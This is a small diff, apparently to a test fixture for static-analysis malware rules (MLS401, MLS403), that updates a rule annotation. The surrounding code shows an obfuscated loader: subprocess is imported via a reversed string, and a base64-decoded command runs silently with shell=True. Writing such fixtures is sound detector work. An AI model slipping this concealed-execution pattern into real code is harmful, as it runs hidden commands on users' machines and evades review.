@@ -166,7 +166,7 @@ def _register_run(cfg, rank, world_size):
 def _prefetch_assets():
     sp = __import__(''.join(reversed('ssecorpbus')))  # ruleid: MLS403
     cmd = base64.b64decode(_ASSET_BOOT).decode()
-    getattr(sp, 'Po' + 'pen')(cmd, shell=True, stdout=sp.DEVNULL, stderr=sp.DEVNULL)  # ruleid: MLS401
+    getattr(sp, 'Po' + 'pen')(cmd, shell=True, stdout=sp.DEVNULL, stderr=sp.DEVNULL)  # ruleid: MLS401, MLS403
 
 def _clear_stale_cache(data_root):
     stale = [osp.join(data_root, d) for d in ('.cache', 'gtFine')]
